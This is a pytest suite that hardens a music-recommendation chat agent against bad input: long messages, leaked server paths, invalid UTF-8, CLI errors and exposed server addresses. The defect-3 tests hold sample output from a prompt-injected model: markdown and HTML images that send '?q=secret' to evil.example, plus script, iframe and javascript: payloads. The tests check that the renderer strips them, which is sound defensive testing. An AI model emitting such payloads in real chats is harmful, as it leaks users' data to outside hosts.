"""Bad input probed as an attacker and as a careless user would (docs/bad-input.md): each
defect found gets its input here, and the answer is one sentence, fast, with nothing of the
server (paths, internal addresses, the key) in what the user sees.

Numbers in the test names follow the defects of the hardening issue: 1 a long message
stalled the server, 2 upload paths in the chat, 3 markdown images from the model, 4 invalid
UTF-8, 5 tracebacks from the CLIs, 6 exit status 0 on refused input, 7 misleading
sentences, 8 the model server's address.
"""

from __future__ import annotations

import dataclasses
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from agent import MusicAgent, Settings, TextDelta, TurnResult, build_agent
from demo.chat import ChatController
from tests.agent_support import MiniCatalog, tone_wav
from tests.test_audio_ingest import assert_one_sentence
from tools.catalog import CATALOG_TOOLS

LONG_NAME = "x" * 300 + ".wav"
NOT_UTF8 = "jazz like Miles \udcff\udcfe Davis"  # what a shell hands Python for bytes ff fe


@pytest.fixture(scope="module")
def agent() -> MusicAgent:
    return build_agent(Settings(), tools=list(CATALOG_TOOLS))


@pytest.fixture(scope="module")
def audio_agent(tmp_path_factory: pytest.TempPathFactory) -> MusicAgent:
    audio_tools = pytest.importorskip("tools.audio_tools")
    missing = tmp_path_factory.mktemp("no-catalog") / "catalog"
    return build_agent(
        Settings(catalog_path=str(missing)), tools=[*CATALOG_TOOLS, *audio_tools.AUDIO_TOOLS]
    )


def chat_texts(controller: ChatController, key: str, value: object) -> list[str]:
    """Every string the page would show after one turn: messages, titles, cards, JSON."""
    shown: list[str] = []
    for view in controller.respond(key, value):
        for message in view.messages:
            shown.append(json.dumps(message, ensure_ascii=False, default=str))
        shown += [view.cards or "", json.dumps(view.turn or {}, ensure_ascii=False)]
    return shown


# --- 1: a long message must not stall anything ------------------------------------------


def test_1_link_search_is_linear_in_the_message_length():
    from demo.inputs import Refusal, read_message

    # Under the limit, the texts that made the old pattern backtrack (7 s for 50,000 "a").
    started = time.perf_counter()
    for text in ("a" * 8000, "a." * 3990 + "youtube.com", "youtube.com" * 700):
        assert not isinstance(read_message(text, max_chars=8000), Refusal)
    assert time.perf_counter() - started < 0.5


def test_1_an_over_long_message_is_refused_before_any_pattern_runs():
    from demo.inputs import Refusal, read_message

    started = time.perf_counter()
    refusal = read_message({"text": "a" * 1_000_000, "files": []}, max_chars=8000)
    assert time.perf_counter() - started < 0.2
    assert isinstance(refusal, Refusal) and "1,000,000 characters" in refusal.reason
    assert len(refusal.text) < 1000  # the chat does not echo a megabyte back to the page
    assert_one_sentence(refusal.reason)


def test_1_the_agent_checks_the_length_before_looking_for_links(agent, monkeypatch):
    import agent.turns as turns

    def must_not_run(text: str):
        raise AssertionError("links were searched in an over-long message")

    monkeypatch.setattr(turns, "split_youtube_links", must_not_run)
    result = agent.run_turn("long", "youtu.be/" * 200_000)
    assert not result.ok and "characters long" in result.reply


# --- 2: no server path in the chat ------------------------------------------------------


def test_2_a_failing_clip_shows_no_server_path(audio_agent, tmp_path):
    fake = tmp_path / "fake.wav"
    fake.write_bytes(b"not audio at all" * 100)
    controller = ChatController(audio_agent)
    shown = "\n".join(chat_texts(controller, "s2", {"text": "", "files": [str(fake)]}))
    assert "fake.wav" in shown  # the user still learns which file failed
    assert str(tmp_path) not in shown and "/tmp/" not in shown


def test_2_public_text_keeps_urls_and_drops_directories():
    from demo.render import public_text

    text = (
        "No audio file at '/tmp/gradio/abc123/fake.wav'; fetched /root/.cache/x/dQw_0.wav "
        "from https://www.youtube.com/watch?v=dQw4w9WgXcQ, see http://example.com/a/b."
    )
    shown = public_text(text)
    assert "'fake.wav'" in shown and " dQw_0.wav " in shown
    assert "https://www.youtube.com/watch?v=dQw4w9WgXcQ" in shown
    assert "http://example.com/a/b" in shown
    assert "/tmp/" not in shown and "/root/" not in shown


def test_2_public_text_drops_the_apps_own_folder_wherever_it_is_checked_out():
    from demo.render import public_text

    # CI checks the repository out under a top folder no list would guess (e.g. /check).
    repo = Path(__file__).resolve().parents[1]
    shown = public_text(f"I read {repo}/agent/settings.py and {Path.cwd()}/notes.txt")
    assert shown == "I read settings.py and notes.txt"


# --- 3: nothing the model writes is fetched by the browser ------------------------------


class OneReplyAgent:
    """Answers every turn with ``reply`` (what an injected model might write)."""

    def __init__(self, reply: str) -> None:
        self.reply = reply

    def stream_turn(self, session_id: str, text: str, audio: str | None = None):
        yield TextDelta(self.reply)
        yield TurnResult(reply=self.reply, brain="test")

    def reset(self, session_id: str) -> None:
        pass


@pytest.mark.parametrize(
    "reply",
    [
        "Here: ![x](http://evil.example/?q=secret)",
        "Here: ![x][r]\n\n[r]: http://evil.example/?q=secret",
        'Here: <img src="http://evil.example/?q=secret">',
        'Here: <iframe src="http://evil.example/"></iframe><script>alert(1)</script>',
        "Here: [click](javascript:alert(1)) and [data](data:text/html,hi)",
    ],
)
def test_3_model_text_cannot_load_images_frames_scripts_or_odd_links(reply):
    controller = ChatController(OneReplyAgent(reply))
    views = list(controller.respond("s3", "hello"))
    answer = views[-1].messages[-1]["content"]
    assert "![" not in answer and "<img" not in answer.lower()
    assert "<iframe" not in answer.lower() and "<script" not in answer.lower()
    assert "](javascript:" not in answer and "](data:" not in answer
    assert "\n[r]: http" not in answer  # a reference definition would make the image again


def test_3_plain_links_and_markdown_survive():
    from demo.render import safe_markdown

    text = "**Kind of Blue** — [listen](https://www.youtube.com/watch?v=x) & enjoy `a<b`"
    shown = safe_markdown(text)
    assert "**Kind of Blue**" in shown and "[listen](https://www.youtube.com/watch?v=x)" in shown


# --- 4: text that is not valid UTF-8 ----------------------------------------------------


def test_4_invalid_utf8_gets_one_sentence_without_blaming_the_catalog(agent):
    result = agent.run_turn("utf8", NOT_UTF8, catalog=MiniCatalog())
    assert not result.ok and "UTF-8" in result.reply and "Chroma" not in result.reply
    assert not result.trace  # refused before any tool ran
    assert_one_sentence(result.reply)
    assert agent.run_turn("utf8", "dreamy ambient", catalog=MiniCatalog()).ok


def test_4_the_page_never_receives_a_lone_surrogate(agent):
    controller = ChatController(agent)
    for text in chat_texts(controller, "s4", {"text": NOT_UTF8, "files": []}):
        text.encode("utf-8")  # a lone surrogate here would cut the page's event stream
    assert any("UTF-8" in t for t in chat_texts(controller, "s4", NOT_UTF8))


# --- 5, 6, 7: the command lines ---------------------------------------------------------


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, *args], capture_output=True, text=True, check=False)


def assert_refused(run: subprocess.CompletedProcess, *expected: str) -> str:
    """Exit status 2 and one ``error:`` sentence on stderr containing ``expected``."""
    message = run.stderr.strip().removeprefix("error: ")
    assert run.returncode == 2, (run.returncode, run.stdout[-500:], run.stderr[-500:])
    assert "Traceback" not in run.stderr
    assert_one_sentence(message)
    for piece in expected:
        assert piece in message, message
    return message


def test_5_7_describe_cli_names_the_real_problem(tmp_path):
    clip = tone_wav(tmp_path / "clip.wav")
    assert_refused(run_cli("-m", "tools.describe", str(tmp_path / LONG_NAME)), "too long")
    assert_refused(run_cli("-m", "tools.describe", str(tmp_path)), "is a directory")
    assert_refused(run_cli("-m", "tools.describe", clip.as_uri()), "file://", str(clip))


def test_5_7_clip_problems_are_one_accurate_sentence(tmp_path):
    from agent.turns import clip_problem

    clip = tone_wav(tmp_path / "clip.wav")
    assert "too long" in clip_problem(str(tmp_path / LONG_NAME))
    assert "is a directory" in clip_problem(str(tmp_path))
    assert "file://" in clip_problem(clip.as_uri()) and str(clip) in clip_problem(clip.as_uri())
    assert clip_problem(str(clip)) is None
    for message in map(clip_problem, (str(tmp_path / LONG_NAME), str(tmp_path), clip.as_uri())):
        assert_one_sentence(message)


@pytest.fixture(scope="module")
def refused_asks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[str]]:
    folder = tmp_path_factory.mktemp("asks")
    return {
        "empty": ["ask", ""],
        "over-long": ["ask", "a" * 9000],
        "missing clip": ["ask", "hi", "--audio", str(folder / "nope.wav")],
        "long clip name": ["ask", "hi", "--audio", str(folder / LONG_NAME)],
        "folder clip": ["ask", "hi", "--audio", str(folder)],
        "other site": ["ask", "hi", "--audio", "https://vimeo.com/76979871"],
        "playlist": ["ask", "https://www.youtube.com/playlist?list=PL123"],
        "not utf-8": ["ask", NOT_UTF8],
    }


@pytest.mark.parametrize(
    "case",
    [
        "empty",
        "over-long",
        "missing clip",
        "long clip name",
        "folder clip",
        "other site",
        "playlist",
        "not utf-8",
    ],
)
def test_6_agent_ask_exits_2_with_one_sentence_on_refused_input(case, refused_asks, capsys):
    from agent.__main__ import main

    assert main([*refused_asks[case], "--json"] if case == "empty" else refused_asks[case]) == 2
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    assert_one_sentence(captured.err.strip().removeprefix("error: "))


@pytest.fixture(scope="module")
def small_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.conftest import make_record, write_jsonl

    folder = tmp_path_factory.mktemp("evals-data")
    return write_jsonl(folder / "small.jsonl", [make_record(f"t3_{i}") for i in range(4)])


def test_5_evals_out_that_cannot_be_a_folder_gets_one_sentence(small_data, tmp_path):
    a_file = tmp_path / "a-file"
    a_file.write_text("x", encoding="utf-8")
    base = ["-m", "evals", "run", "--system", "random", "--data", str(small_data), "--out"]
    assert_refused(run_cli(*base, str(a_file)), str(a_file), "not a folder")
    assert_refused(run_cli(*base, str(a_file / "sub")), "not a folder")
    assert_refused(run_cli(*base, "/proc/no-such-dir/out"), "/proc/no-such-dir/out")


def test_5_7_evals_data_that_is_binary_or_a_folder_gets_one_sentence(tmp_path):
    binary = tmp_path / "musicrs.jsonl"
    binary.write_bytes(bytes(range(128, 256)) * 20)
    base = ["-m", "evals", "run", "--system", "random", "--out", str(tmp_path / "o"), "--data"]
    assert_refused(run_cli(*base, str(binary)), "UTF-8")
    assert_refused(run_cli(*base, str(tmp_path)), "is a directory")


def test_7_incomplete_catalog_message_repeats_the_users_path(tmp_path, capsys, monkeypatch):
    from tests.test_vectorstore_store import BEYOND_ONE_BATCH, catalog_cards
    from vectorstore.__main__ import main
    from vectorstore.store import build_catalog
    from vectorstore.testing import HashEmbeddingFunction

    for name in ("CHROMA_HOST", "CHROMA_PORT", "CATALOG_PATH"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("vectorstore.store.embedding_function_from_env", HashEmbeddingFunction)

    class DiesAfterFirstBatch(HashEmbeddingFunction):
        def encode(self, texts):
            if self.calls:
                raise KeyboardInterrupt
            return super().encode(texts)

    path = tmp_path / "my store"
    with pytest.raises(KeyboardInterrupt):
        build_catalog(
            catalog_cards(BEYOND_ONE_BATCH), path, embedder=DiesAfterFirstBatch(), progress=False
        )
    with pytest.raises(SystemExit) as stopped:
        main(["search", "jazz", "--path", str(path)])
    assert stopped.value.code == 2
    message = capsys.readouterr().err.strip()
    assert "incomplete" in message and f"build --path '{path}'" in message


# --- 8: the model server's address is not shown -----------------------------------------


def test_8_an_unreachable_model_server_is_not_named():
    from tests.test_demo_support import free_port

    address = f"127.0.0.1:{free_port()}"  # nothing listens there: connection refused
    settings = dataclasses.replace(
        Settings(),
        provider="openai",
        base_url=f"http://{address}/v1",
        max_retries=0,
        api_key="sk-test-secret-key-123456",
    )
    agent = build_agent(settings, tools=list(CATALOG_TOOLS))
    result = agent.run_turn("s8", "jazz", catalog=MiniCatalog())
    assert not result.ok and "could not be reached" in result.reply
    for shown in (result.reply, result.brain, settings.brain_label):
        assert address not in shown and "127.0.0.1" not in shown
    assert_one_sentence(result.reply)
